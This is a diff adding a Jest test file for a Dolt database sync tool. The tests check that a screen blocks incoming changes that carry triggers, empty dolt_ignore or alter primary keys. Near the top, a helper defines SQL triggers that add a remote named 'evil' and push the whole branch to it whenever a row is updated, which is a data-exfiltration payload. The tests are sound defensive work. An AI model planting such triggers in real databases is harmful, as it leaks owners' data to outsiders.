@@ -1,0 +1,137 @@
+import { cpSync, existsSync, rmSync } from 'node:fs';
+import { describe, expect, test } from '@jest/globals';
+import { type Mailbox, mailbox } from '../helpers/mailbox.ts';
+import { type TempFolder, tempFolder } from '../helpers/temp-folder.ts';
+import { remoteHead } from '../helpers/town.ts';
+
+/** Triggers that hand our whole branch to somebody else as soon as a row of ours is updated (measured, Dolt 2.3.0). */
+function thieves(folder: TempFolder): string[] {
+  const on = 'BEFORE UPDATE ON items FOR EACH ROW';
+  return [
+    `CREATE TRIGGER opens ${on} CALL DOLT_REMOTE('add', 'evil', 'file://${folder.file('evil')}')`,
+    `CREATE TRIGGER sends ${on} CALL DOLT_PUSH('evil', 'main')`,
+  ];
+}
+
+async function nothingWasStolen(folder: TempFolder, box: Mailbox): Promise<void> {
+  expect(existsSync(folder.file('evil'))).toBe(false);
+  expect(await box.south.rows("SELECT name FROM dolt_remotes WHERE name = 'evil'")).toEqual([]);
+}
+
+describe('a trigger that pushes elsewhere', () => {
+  test('does so where a row is updated, or the tests below would mean nothing', async () => {
+    await using folder = await tempFolder();
+    const box = await mailbox(folder);
+    await box.keep(...thieves(folder));
+    await box.south.sql("UPDATE items SET title = 'x' WHERE id = 100");
+    expect(await remoteHead(`file://${folder.file('evil')}`, folder.file('look', 'c'))).toBe(await box.south.head());
+  });
+
+  test('is held by the screen', async () => {
+    await using folder = await tempFolder();
+    const box = await mailbox(folder);
+    await box.send("UPDATE items SET owner = 'eve' WHERE id = 100", ...thieves(folder));
+    await box.keep("UPDATE items SET title = 'south' WHERE id = 100");
+    expect((await box.receive()).run('partner').failure?.code).toBe('peer-brings-code');
+    await nothingWasStolen(folder, box);
+  });
+
+  test('does not fire when it is accepted and its head merged', async () => {
+    await using folder = await tempFolder();
+    const box = await mailbox(folder);
+    await box.send("UPDATE items SET owner = 'eve' WHERE id = 100", ...thieves(folder));
+    await box.keep("UPDATE items SET title = 'south' WHERE id = 100");
+    expect((await box.receive({ accept: ['triggers'] })).run('partner').failure).toBeNull();
+    expect(await box.south.rows('SELECT title, owner FROM items WHERE id = 100')).toEqual([
+      { title: 'south', owner: 'eve' },
+    ]);
+    await nothingWasStolen(folder, box);
+  });
+});
+
+describe('an emptied dolt_ignore', () => {
+  const secret = [
+    'CREATE TABLE private_notes (id INT PRIMARY KEY, text VARCHAR(40))',
+    "INSERT INTO private_notes VALUES (1, 'secret')",
+  ];
+  const seed = ["INSERT INTO dolt_ignore VALUES ('private%', true)"];
+
+  test('waits, so that private rows stay out of the next commit of everything', async () => {
+    await using folder = await tempFolder();
+    const box = await mailbox(folder, ...seed);
+    await box.south.sql(...secret);
+    await box.send('DELETE FROM dolt_ignore');
+    const before = await box.state();
+    expect((await box.receive()).run('partner').failure?.code).toBe('peer-changes-local-tables');
+    expect(await box.state()).toBe(before);
+    await box.keep("INSERT INTO items VALUES (1, 'x', 'y')");
+    expect(await box.south.rows("SELECT * FROM private_notes AS OF 'main'").catch(() => 'not committed')).toBe(
+      'not committed',
+    );
+    expect(await box.south.rows('SELECT text FROM private_notes')).toEqual([{ text: 'secret' }]);
+  });
+
+  test('passes where we emptied ours as well', async () => {
+    await using folder = await tempFolder();
+    const box = await mailbox(folder, ...seed);
+    await box.send('DELETE FROM dolt_ignore');
+    await box.keep('DELETE FROM dolt_ignore', "INSERT INTO items VALUES (1, 'x', 'y')");
+    expect((await box.receive()).run('partner')).toMatchObject({ failure: null, verified: true });
+  });
+});
+
+describe('where the screen looks', () => {
+  const trigger = "CREATE TRIGGER t BEFORE INSERT ON items FOR EACH ROW SET NEW.title = 'x'";
+
+  test.each([
+    { what: 'status', test: { command: 'status' } },
+    { what: 'a dry run', test: { options: { dryRun: true } } },
+    { what: 'pull', test: { command: 'pull' } },
+  ] as const)('$what tells what would have to wait', async ({ test: receiving }) => {
+    await using folder = await tempFolder();
+    const box = await mailbox(folder);
+    await box.send(trigger);
+    const before = await box.state();
+    expect((await box.receive(receiving)).run('partner')).toMatchObject({
+      state: 'behind',
+      failure: { code: 'peer-brings-code' },
+    });
+    expect(await box.state()).toBe(before);
+  });
+
+  test('a head that is fetched again after a lost race is looked at again', async () => {
+    await using folder = await tempFolder();
+    const box = await mailbox(folder);
+    await box.keep("INSERT INTO items VALUES (1, 'one', 'sue')");
+    const swap = (from: string, to: string): void => {
+      rmSync(folder.file(to), { recursive: true, force: true });
+      cpSync(folder.file(from), folder.file(to), { recursive: true });
+    };
+    swap('mailbox', 'before');
+    await box.send(trigger);
+    swap('mailbox', 'moved');
+    swap('before', 'mailbox');
+    let moved = false;
+    const outcome = await box.receive({
+      onEvent: ({ step }) => {
+        if (step === 'pushing' && !moved) {
+          swap('moved', 'mailbox');
+          moved = true;
+        }
+      },
+    });
+    expect(outcome.run('partner')).toMatchObject({ attempts: 2, failure: { code: 'peer-brings-code' } });
+    expect(await box.south.rows('SELECT name FROM dolt_schemas')).toEqual([]);
+  });
+});
+
+test('a table with uncommitted rows is touched by a head that gives it another primary key', async () => {
+  await using folder = await tempFolder();
+  const box = await mailbox(folder, 'CREATE TABLE small (id INT PRIMARY KEY, n INT NOT NULL)');
+  await box.send('ALTER TABLE small DROP PRIMARY KEY', 'ALTER TABLE small ADD PRIMARY KEY (n)');
+  await box.south.sql('INSERT INTO small VALUES (1, 1)');
+  const before = await box.state();
+  const { failure } = (await box.receive({ options: { dirty: ['small'] } })).run('partner');
+  expect(failure).toMatchObject({ code: 'uncommitted-changes', message: expect.stringContaining('small') });
+  expect(await box.state()).toBe(before);
+});
